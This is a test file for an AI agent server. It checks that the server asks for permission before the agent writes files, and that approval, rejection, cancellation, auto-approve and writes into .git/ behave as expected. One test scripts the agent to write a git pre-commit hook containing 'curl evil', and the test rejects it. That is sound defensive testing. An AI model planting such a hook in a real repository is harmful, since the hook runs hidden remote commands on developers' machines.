import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { createSession, postMessage, sessionEvents, startTestServer } from './helpers.js'
import type { SseEvent } from './sse-client.js'

const WRITE_THEN_ANSWER = [
  {
    text: 'Writing.',
    toolCalls: [{ name: 'write_file', arguments: { path: 'notes.txt', content: 'hello\n' } }],
  },
  { text: 'Wrote it.' },
]
const finished = (event: SseEvent) => event.event === 'run.finished'

describe('permissions over HTTP', () => {
  it('asks over SSE, lists the ask, and runs the tool once it is answered over HTTP', async () => {
    const t = await startTestServer({ script: WRITE_THEN_ANSWER })
    const session = await createSession(t)
    const sse = await sessionEvents(t, session.id)
    const posted = await postMessage(t, session.id, { content: 'write notes' })
    const { run_id: runId } = (await posted.json()) as { run_id: string }
    const untilAsk = await sse.collect((event) => event.event === 'permission.asked')
    const asked = untilAsk.at(-1)?.data as Record<string, unknown>
    expect(asked).toMatchObject({
      tool: 'write_file',
      access: 'write',
      subject: 'notes.txt',
      session_id: session.id,
      // Exactly what will happen, for every UI: the file, its operation, its real path and the diff.
      preview: {
        kind: 'file-edit',
        summary: 'notes.txt (new, +1)',
        files: [
          {
            path: 'notes.txt',
            operation: 'add',
            added: 1,
            removed: 0,
            realPath: join(t.workspace, 'notes.txt'),
            diff: '--- /dev/null\n+++ b/notes.txt\n@@ -0,0 +1,1 @@\n+hello\n',
          },
        ],
      },
    })

    const pending = (await (await t.api(`/api/v1/permissions?session_id=${session.id}`)).json()) as {
      items: Record<string, unknown>[]
    }
    expect(pending.items).toEqual([
      expect.objectContaining({
        id: asked.id,
        session_id: session.id,
        run_id: runId,
        call_id: asked.callId,
        tool: 'write_file',
        preview: asked.preview,
      }),
    ])
    expect(existsSync(join(t.workspace, 'notes.txt'))).toBe(false)

    const answer = await t.api(`/api/v1/permissions/${String(asked.id)}`, {
      method: 'POST',
      json: { reply: 'once' },
    })
    expect(answer.status).toBe(200)
    expect(await answer.json()).toEqual({ id: asked.id, reply: 'once' })

    const rest = await sse.collect(finished)
    sse.close()
    expect(rest.map((event) => event.event)).toContain('permission.answered')
    expect(rest.find((event) => event.event === 'permission.answered')?.data).toMatchObject({
      reply: 'once',
      auto: false,
    })
    expect(rest.at(-1)?.data).toMatchObject({ status: 'completed' })
    expect(readFileSync(join(t.workspace, 'notes.txt'), 'utf8')).toBe('hello\n')
    expect(rest.find((event) => event.event === 'tool.finished')?.data).toMatchObject({
      details: { kind: 'file-edit', summary: 'notes.txt (new, +1)', files: [{ operation: 'add' }] },
    })
    // The stored result keeps its details, so history renders like the live run.
    const messages = (await (await t.api(`/api/v1/sessions/${session.id}/messages`)).json()) as {
      items: Array<{ parts: Array<Record<string, unknown>> }>
    }
    const result = messages.items
      .flatMap((message) => message.parts)
      .find((part) => part.type === 'tool_result')
    expect(result).toMatchObject({
      details: {
        kind: 'file-edit',
        summary: 'notes.txt (new, +1)',
        files: [{ path: 'notes.txt', operation: 'add' }],
      },
    })

    // Answered: gone from the list, and a second answer is a 404.
    expect(((await (await t.api('/api/v1/permissions')).json()) as { items: unknown[] }).items).toEqual([])
    const again = await t.api(`/api/v1/permissions/${String(asked.id)}`, {
      method: 'POST',
      json: { reply: 'once' },
    })
    expect(again.status).toBe(404)
  })

  it('a rejected ask is reported to the model and nothing is written', async () => {
    const t = await startTestServer({ script: WRITE_THEN_ANSWER })
    const session = await createSession(t)
    const sse = await sessionEvents(t, session.id)
    await postMessage(t, session.id, { content: 'write notes' })
    const asked = (await sse.collect((event) => event.event === 'permission.asked')).at(-1)?.data as {
      id: string
    }
    await t.api(`/api/v1/permissions/${asked.id}`, {
      method: 'POST',
      json: { reply: 'reject', message: 'no' },
    })
    const rest = await sse.collect(finished)
    sse.close()
    expect(rest.find((event) => event.event === 'tool.finished')?.data).toMatchObject({ isError: true })
    expect(existsSync(join(t.workspace, 'notes.txt'))).toBe(false)
  })

  it('auto_approve sessions never ask', async () => {
    const t = await startTestServer({ script: WRITE_THEN_ANSWER })
    const session = await createSession(t, { auto_approve: true })
    expect(session.auto_approve).toBe(true)
    const sse = await sessionEvents(t, session.id)
    await postMessage(t, session.id, { content: 'write notes' })
    const events = await sse.collect(finished)
    sse.close()
    expect(events.map((event) => event.event)).not.toContain('permission.asked')
    expect(readFileSync(join(t.workspace, 'notes.txt'), 'utf8')).toBe('hello\n')
  })

  it('a write into .git/ is asked even with auto_approve, and the ask says why (GET /permissions reason)', async () => {
    const t = await startTestServer({
      script: [
        {
          toolCalls: [
            {
              name: 'write_file',
              arguments: { path: '.git/hooks/pre-commit', content: '#!/bin/sh\ncurl evil\n' },
            },
          ],
        },
        { text: 'Could not.' },
      ],
    })
    const session = await createSession(t, { auto_approve: true })
    const sse = await sessionEvents(t, session.id)
    await postMessage(t, session.id, { content: 'add a hook' })
    const asked = (await sse.collect((event) => event.event === 'permission.asked')).at(-1)?.data as {
      id: string
      reason?: string
    }
    expect(asked.reason).toMatch(/\.git/)
    const pending = (await (await t.api(`/api/v1/permissions?session_id=${session.id}`)).json()) as {
      items: Record<string, unknown>[]
    }
    expect(pending.items).toEqual([
      expect.objectContaining({ id: asked.id, tool: 'write_file', reason: asked.reason }),
    ])
    await t.api(`/api/v1/permissions/${asked.id}`, { method: 'POST', json: { reply: 'reject' } })
    const rest = await sse.collect(finished)
    sse.close()
    expect(rest.find((event) => event.event === 'tool.finished')?.data).toMatchObject({ isError: true })
    expect(existsSync(join(t.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false)
  })

  it('cancelling a run waiting on a permission aborts it and drops the ask', async () => {
    const t = await startTestServer({ script: WRITE_THEN_ANSWER })
    const session = await createSession(t)
    const sse = await sessionEvents(t, session.id)
    const posted = await postMessage(t, session.id, { content: 'write notes' })
    const { run_id: runId } = (await posted.json()) as { run_id: string }
    await sse.collect((event) => event.event === 'permission.asked')
    const cancelled = await t.api(`/api/v1/runs/${runId}/cancel`, { method: 'POST' })
    expect(cancelled.status).toBe(202)
    expect(await cancelled.json()).toMatchObject({ id: runId, session_id: session.id })
    const rest = await sse.collect(finished)
    sse.close()
    expect(rest.at(-1)?.data).toMatchObject({ status: 'aborted' })
    expect(((await (await t.api('/api/v1/permissions')).json()) as { items: unknown[] }).items).toEqual([])
    expect(existsSync(join(t.workspace, 'notes.txt'))).toBe(false)
    const run = (await (await t.api(`/api/v1/runs/${runId}`)).json()) as { status: string }
    expect(run.status).toBe('aborted')
    // Finished: cancelling again is a conflict; an unknown run is a 404.
    expect((await t.api(`/api/v1/runs/${runId}/cancel`, { method: 'POST' })).status).toBe(409)
    expect((await t.api('/api/v1/runs/nope/cancel', { method: 'POST' })).status).toBe(404)
  })
})
